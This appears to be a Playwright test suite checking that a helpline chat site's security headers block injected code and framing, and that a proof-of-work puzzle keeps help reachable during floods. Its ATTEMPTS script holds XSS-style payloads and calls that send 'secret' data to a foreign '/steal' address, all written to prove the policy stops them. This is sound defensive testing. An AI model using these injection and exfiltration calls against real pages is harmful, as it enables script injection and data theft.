"""What the headers say a real browser does: nothing foreign runs, loads, is told, or holds our
pages.
"""

from __future__ import annotations

import json
import os
import re
import time
from collections.abc import AsyncIterator, Awaitable, Callable
from typing import Any

import pytest
import pytest_asyncio
from playwright.async_api import expect

from tests.browser.conftest import NewContext, StartBrowser
from tests.browser.people import Visitor
from tests.browser.sites import Site
from tests.stack import Stack

#: Everything that injected code would try, each by itself; what happened, by name. A violation
#: names the directive that stopped it.
ATTEMPTS = """async (foreign) => {
  const stopped = [];
  const note = event => stopped.push(event.effectiveDirective);
  document.addEventListener("securitypolicyviolation", note);
  const later = work => new Promise(done => setTimeout(async () => {
    try { done(String(await work() ?? "done")); } catch (error) { done(error.name); }
  }));
  const add = (name, values) => {
    const made = Object.assign(document.createElement(name), values);
    document.body.append(made);
    return made;
  };
  window.ran = [];
  const results = {
    eval: await later(() => eval("ran.push('eval')")),
    function: await later(() => new Function("ran.push('function')")()),
    timer: await later(() => { setTimeout("ran.push('timer')"); }),
    innerHTML: await later(() => { add("div", {}).innerHTML = "<b onclick=alert(1)>x</b>"; }),
    insert: await later(() => add("div", {}).insertAdjacentHTML("beforeend", "<img src=x>")),
    write: await later(() => document.write("<p>x</p>")),
    parser: await later(() => { new DOMParser().parseFromString("<b>x</b>", "text/html"); }),
    policy: await later(() => { trustedTypes.createPolicy("mine", { createHTML: text => text }); }),
    worker: await later(() => { new Worker(`${foreign}/steal`); }),
    fetch: await later(() => fetch(`${foreign}/steal?words=secret`, { mode: "no-cors" })),
  };
  const script = document.createElement("script");
  script.append("ran.push('inline script')");
  document.head.append(script);
  const there = document.createElement("script");
  try { there.src = `${foreign}/steal`; } catch (error) { results.src = error.name; }
  document.head.append(there);
  add("img", { src: `${foreign}/steal` });
  add("iframe", { src: `${foreign}/steal` });
  add("link", { rel: "stylesheet", href: `${foreign}/steal` });
  const data = `${foreign}/steal`;
  try { add("object", { data }); } catch (error) { results.object = error.name; }
  add("video", { src: `${foreign}/steal` });
  add("base", { href: foreign });
  try { add("div", {}).setAttribute("onclick", "ran.push('handler')"); }
  catch (error) { results.handler = error.name; }
  add("div", {}).setAttribute("style", "background: url(" + foreign + "/steal)");
  const link = add("a", { href: "javascript:ran.push('link')" });
  link.click();
  const form = add("form", { action: `${foreign}/steal`, method: "get" });
  form.requestSubmit();
  try { new WebSocket(foreign.replace("http", "ws") + "/steal"); }
  catch (error) { results.socket = error.name; }
  navigator.sendBeacon(`${foreign}/steal`, "secret");
  await new Promise(done => setTimeout(done, 500));
  return { results, stopped: [...new Set(stopped)], ran: window.ran };
}"""

_STOPPED = {
    "script-src", "script-src-elem", "img-src", "frame-src", "style-src-elem", "style-src-attr",
    "media-src", "connect-src", "form-action", "base-uri",
    "require-trusted-types-for", "trusted-types",
}  # fmt: skip


async def _tries_everything(
    evaluate: Callable[[str], Awaitable[dict[str, Any]]], foreign: Site
) -> None:
    foreign.pages["/steal"] = "ran.push('foreign')"
    before = len(foreign.referers)
    happened = await evaluate(f"({ATTEMPTS})({json.dumps(foreign.origin)})")
    assert happened["ran"] == []
    results = happened["results"]
    assert results.pop("fetch") == "TypeError"
    assert results["eval"] == results["function"] == "EvalError"
    assert {results[name] for name in ("innerHTML", "insert", "write", "parser", "policy")} == {
        "TypeError"
    }
    assert "done" not in {
        results[name] for name in ("worker", "handler", "src", "object") if name in results
    }
    missing = _STOPPED - set(happened["stopped"])
    # `eval` and inline code are one directive by two names; Firefox lets Trusted Types stop both.
    assert missing <= {"script-src", "script-src-elem"}
    assert len(foreign.referers) == before, "nothing of it reached the other site"


async def test_nothing_foreign_runs_or_is_told_on_the_chat_page(
    new_context: NewContext, stack: Stack, stranger: Site
) -> None:
    page = await (await new_context(360, 740)).new_page()
    await Visitor(page).opens(stack.public)
    await _tries_everything(page.evaluate, stranger)


async def test_nothing_foreign_runs_or_is_told_in_firefox(
    start_browser: StartBrowser, stack: Stack, stranger: Site
) -> None:
    browser = await start_browser("firefox")
    for address in (stack.public, stack.desk):
        await browser.goes_to(address)
        await _tries_everything(browser.tells, stranger)


async def test_nothing_foreign_runs_or_is_told_on_the_desk(
    new_context: NewContext, stack: Stack, stranger: Site
) -> None:
    page = await (await new_context(1280, 800)).new_page()
    await page.goto(stack.desk)
    await expect(page.get_by_role("button", name="Sign in")).to_be_visible()
    await _tries_everything(page.evaluate, stranger)


@pytest.mark.parametrize("path", ["", "/frame"])
async def test_a_site_that_is_not_named_cannot_frame_the_chat(
    new_context: NewContext, stack: Stack, stranger: Site, path: str
) -> None:
    await _is_refused(new_context, stranger, f"{stack.public}{path}")


async def test_nobody_can_frame_the_desk_not_even_a_charity(
    new_context: NewContext, stack: Stack, stranger: Site, charity: Site
) -> None:
    for site in (stranger, charity):
        await _is_refused(new_context, site, stack.desk)


async def _is_refused(new_context: NewContext, site: Site, address: str) -> None:
    site.pages["/framing"] = f'<title>Framing</title><iframe src="{address}"></iframe>'
    page = await (await new_context(1280, 800)).new_page()
    async with page.expect_console_message(
        lambda message: "frame-ancestors" in message.text or "X-Frame-Options" in message.text
    ):
        await page.goto(f"{site.origin}/framing")
    (frame,) = page.frames[1:]
    await frame.wait_for_url(re.compile("^chrome-error:"), wait_until="commit")


async def test_our_own_pages_break_none_of_it(new_context: NewContext, stack: Stack) -> None:
    """No violation, no header that the browser does not know, on either page in use."""
    said: list[str] = []
    context = await new_context(1280, 800)
    for address in (stack.public, f"{stack.public}/frame", stack.desk):
        page = await context.new_page()
        page.on("console", lambda message: said.append(message.text))
        await page.add_init_script(
            "document.addEventListener('securitypolicyviolation',"
            "event => console.error('violation ' + event.effectiveDirective))"
        )
        await page.goto(address)
        await expect(page.get_by_role("button").first).to_be_visible()
        assert await page.evaluate("crossOriginIsolated")
    expected = "401 (Unauthorized)"  # the desk asks who is signed in
    assert [line for line in said if expected not in line] == []


@pytest_asyncio.fixture(loop_scope="session")
async def flooded(tmp_path_factory: pytest.TempPathFactory, stack: Stack) -> AsyncIterator[Stack]:
    """A helpline where the second new chat costs a puzzle; the engine is the other stack's."""
    made = Stack(
        tmp_path_factory.mktemp("flooded"),
        {
            "WAYMARK_ENGINE_PORT": stack.environment["WAYMARK_ENGINE_PORT"],
            "WAYMARK_ENGINE_TOKEN": stack.environment["WAYMARK_ENGINE_TOKEN"],
            "WAYMARK_NEW_CHATS_EACH": "1",
        },
    )
    try:
        made.start("helpline")
        yield made
    finally:
        made.stop()


async def test_in_a_flood_a_slow_phone_is_in_after_a_moment_and_the_numbers_are_there_before(
    new_context: NewContext, flooded: Stack
) -> None:
    context = await new_context(360, 740)
    first = await context.new_page()
    await Visitor(first).opens(flooded.public)
    await context.close()

    page = await (await new_context(360, 740)).new_page()
    cdp = await page.context.new_cdp_session(page)
    await cdp.send("Emulation.setCPUThrottlingRate", {"rate": 6})
    frames: list[tuple[float, str]] = []

    def follow(socket: Any) -> None:
        socket.on("framereceived", lambda data: frames.append((time.monotonic(), data)))
        socket.on("framesent", lambda data: frames.append((time.monotonic(), data)))

    page.on("websocket", follow)
    visitor = Visitor(page)
    await visitor.opens(flooded.public)
    await visitor.sees_the_numbers()
    asked = next(at for at, data in frames if '"challenge"' in data)
    answered = next(at for at, data in frames if '"proof"' in data)
    assert answered > asked
    if os.environ.get("WAYMARK_SOAK") == "1":
        # Measured where the machine is not busy with other tests.
        assert answered - asked <= 1.0


async def test_who_cannot_solve_a_puzzle_still_has_the_numbers_and_the_way_out(
    new_context: NewContext, flooded: Stack
) -> None:
    context = await new_context(360, 740)
    page = await context.new_page()
    # A browser whose sums are wrong: every answer it finds opens nothing.
    await page.add_init_script("Math.clz32 = () => 32")
    await page.goto(flooded.public)
    visitor = Visitor(page)
    await visitor.sees_the_numbers()
